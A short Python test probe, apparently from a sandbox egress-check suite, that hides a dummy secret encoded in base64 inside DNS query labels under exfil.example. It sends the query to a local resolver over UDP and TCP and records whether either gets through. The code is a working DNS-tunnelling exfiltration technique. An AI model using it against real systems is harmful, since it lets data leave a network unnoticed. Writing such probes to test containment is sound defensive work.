# Carries data away in the labels of names that it asks a resolver of its choice for, over UDP and TCP.
import socket
import struct
from contextlib import suppress

from common import facts, finish, hit

question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0)
question += b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0" * 7, b"exfil", b"example")) + b"\0\0\x10\0\1"
resolver = ("127.0.0.1", facts["resolver_port"])
with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
    datagrams.settimeout(0.5)
    datagrams.sendto(question, resolver)
    datagrams.recv(512)
    hit("over UDP")
with suppress(OSError), socket.create_connection(resolver, 1) as stream:
    stream.sendall(struct.pack("!H", len(question)) + question)
    if stream.recv(512):
        hit("over TCP")
finish()
